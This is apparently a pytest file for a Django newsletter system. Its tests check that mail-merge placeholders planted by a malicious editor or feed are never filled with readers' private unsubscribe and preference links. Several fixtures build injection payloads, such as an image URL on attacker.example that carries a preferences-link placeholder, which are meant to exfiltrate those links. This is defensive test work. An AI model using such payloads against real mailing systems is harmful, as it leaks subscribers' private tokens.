"""Each reader's private links are merged only into the slots the product writes (issue 23, high):
an editor or a feed that puts `https://attacker.example/p.gif?p=[[preferences_url]]` (or any ESP's
placeholder) into a story's image, title, summary or link, a section's name, a hashtag or the
edition's intro, subject or preheader gets the placeholder's characters shown, never a reader's
link. For every ESP profile of newsletter/delivery/esp.py (their merge syntax substituted the way
the ESP does, textually), the outbox/SMTP path (our own merge) and the test-send path."""

from __future__ import annotations

import re

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.test import Client
from django.urls import reverse

from articles.content.models import Article, Section, Tag
from newsletter.delivery import esp
from newsletter.editions import compose, segments
from newsletter.editions.models import Digest
from newsletter.editions.segments import Segment
from newsletter.email.render import MERGE_FIELDS, RenderedEmail, merge, neutral_merge_field, render_segment
from sitewide.mail_merge import FIELD_NAMES, placeholder_error
from tests.newsletter.digest_helpers import article, ranked_articles

pytestmark = pytest.mark.django_db

SECRETS = {
    "unsubscribe_url": "https://news.example/u/SECRET-UNSUB/",
    "preferences_url": "https://news.example/p/SECRET-PREFS/",
    "click_token": "SECRETCLICK",
}
# What a merge syntax looks like in each path: every ESP profile's, and ours (outbox, SMTP,
# Postmark and SES are sent one message per recipient, merged by newsletter.email.render.merge).
SYNTAXES = sorted({p.merge_field_format for p in esp.ESP_PROFILES.values() if p.merge_field_format} | {"[[{}]]"})
# Placeholders the ESPs fill themselves, which we never do.
ESP_OWN = ["%unsubscribe_url%", "%recipient_email%", "<%asm_group_unsubscribe_raw_url%>", "[[UNSUB_LINK_EN]]"]


def attacks(syntax: str) -> list[str]:
    return [syntax.format(name) for name in MERGE_FIELDS] + ESP_OWN


def esp_substitutes(rendered: RenderedEmail, syntax: str) -> RenderedEmail:
    """What the ESP sends a reader: each placeholder of its syntax replaced, wherever it stands."""
    if syntax == "[[{}]]":
        return merge(rendered, SECRETS)

    def fill(content: str) -> str:
        for name, value in SECRETS.items():
            content = content.replace(syntax.format(name), value)
        return content

    return RenderedEmail(subject=fill(rendered.subject), text=fill(rendered.text), html=fill(rendered.html))


def counts(rendered: RenderedEmail) -> dict[str, int]:
    everything = rendered.subject + rendered.text + rendered.html
    return {name: everything.count(value.rstrip("/").rsplit("/", 1)[-1]) for name, value in SECRETS.items()}


def poison(syntax: str) -> None:
    """What a malicious editor account (or a feed) can set, through the ORM as a feed import does."""
    bad = " ".join(attacks(syntax))
    lead = Article.objects.order_by("-pk").first()
    lead.title = f"خبر عاجل {bad}"
    lead.summary = f"ملخص {bad}"
    lead.image_url = "https://attacker.example/p.gif?p=" + syntax.format("preferences_url")
    lead.image_alt = bad
    lead.canonical_url = "https://attacker.example/story/" + syntax.format("unsubscribe_url") + "/"
    lead.save()
    Section.objects.filter(pk=lead.section_id).update(name=f"سياسة {syntax.format('preferences_url')}")
    tag = Tag.objects.create(key="hack", name=f"وسم {syntax.format('unsubscribe_url')}", slug="x-preferences_url-y")
    lead.tags.add(tag)
    Digest.objects.update(intro=f"مقدمة {bad}", subject=f"عنوان {bad}", preheader=f"تمهيد {bad}")


@pytest.mark.parametrize("tracking", [True, False], ids=["click-tracking", "direct-links"])
@pytest.mark.parametrize("syntax", SYNTAXES)
def test_no_reader_link_reaches_a_slot_an_editor_or_a_feed_wrote(settings, syntax, tracking) -> None:
    settings.ANALYTICS_CLICK_TRACKING = tracking
    ranked_articles(3)
    article("الخبر الأول", readers=9000, image_url="https://cdn.example.com/lead.jpg")
    digest = compose.compose(frequency="daily")
    segment = Segment(language="ar")
    merge_field = (lambda name: syntax.format(name)) if syntax != "[[{}]]" else neutral_merge_field
    clean = esp_substitutes(render_segment(segments.EditionStories(digest), segment, merge_field=merge_field), syntax)
    poison(syntax)
    digest.refresh_from_db()
    sent = esp_substitutes(render_segment(segments.EditionStories(digest), segment, merge_field=merge_field), syntax)

    assert "attacker.example" in sent.html  # the poisoned image and link are in the email...
    assert counts(sent) == counts(clean)  # ...and the readers' links are only where ours were
    for value in SECRETS.values():
        secret = value.rstrip("/").rsplit("/", 1)[-1]
        assert secret not in sent.subject
        assert not re.search(r"attacker\.example[^\s\"'<>]*" + re.escape(secret), sent.html + sent.text)
    # The reader still sees the characters the editor typed (the joiner is zero-width).
    assert syntax.format("preferences_url") in sent.html.replace("\u2060", "").replace("%5F", "_")


def test_every_merge_field_is_one_the_inert_rules_know() -> None:
    assert set(MERGE_FIELDS) <= set(FIELD_NAMES)


@pytest.mark.parametrize("syntax", SYNTAXES)
def test_the_editors_forms_refuse_mail_merge_syntax_in_arabic(syntax) -> None:
    user = get_user_model().objects.create_user("ed", "ed@example.com", "pw", is_staff=True)
    user.groups.add(Group.objects.get(name="Editors"))
    client = Client()
    client.force_login(user)
    ranked_articles(4)
    story = Article.objects.first()
    placeholder = syntax.format("preferences_url")
    response = client.post(
        reverse("admin:articles_article_change", args=[story.pk]),
        {
            "title": story.title,
            "slug": story.slug,
            "summary": story.summary,
            "body": story.body,
            "section": story.section_id,
            "image_url": "https://attacker.example/p.gif?p=" + placeholder,
            "image_alt": "",
            "status": story.status,
            "published_at_0": "2026-12-01",
            "published_at_1": "10:00",
            "canonical_url": "",
            "guid": "",
        },
    )
    assert response.status_code == 200  # the form again, with the error
    assert "صيغ الدمج البريدي" in response.content.decode()
    story.refresh_from_db()
    assert "attacker" not in story.image_url
    assert placeholder_error(f"مقدمة {placeholder}") and placeholder_error("خصم ٥٠٪ و 70% على الاشتراك") is None


def test_the_edition_texts_refuse_it_too(settings) -> None:
    from newsletter.admin.digest_form import DigestForm

    ranked_articles(4)
    digest = compose.compose(frequency="daily")
    form = DigestForm(
        data={"subject": "عنوان %recipient.preferences_url%", "preheader": "", "intro": ""}, instance=digest
    )
    assert not form.is_valid() and "صيغ الدمج البريدي" in str(form.errors["subject"])


def test_the_test_send_path_fills_nothing_into_an_editors_text(outbox) -> None:
    user = get_user_model().objects.create_user("ed2", "ed2@example.com", "pw", is_staff=True)
    user.groups.add(Group.objects.get(name="Editors"))
    client = Client()
    client.force_login(user)
    ranked_articles(3)
    article("الخبر الأول", readers=9000)
    digest = compose.compose(frequency="daily")
    poison("[[{}]]")
    client.post(reverse("admin:newsletter_digest_send_test", args=[digest.pk]), {"addresses": "ed2@example.com"})
    [test] = outbox()
    html = test.get_body(preferencelist=("html",)).get_content()
    attacker_urls = re.findall(r'(?:src|href)="(https://attacker\.example[^"]*)"', html)
    assert attacker_urls and all("/newsletter/" not in url for url in attacker_urls)
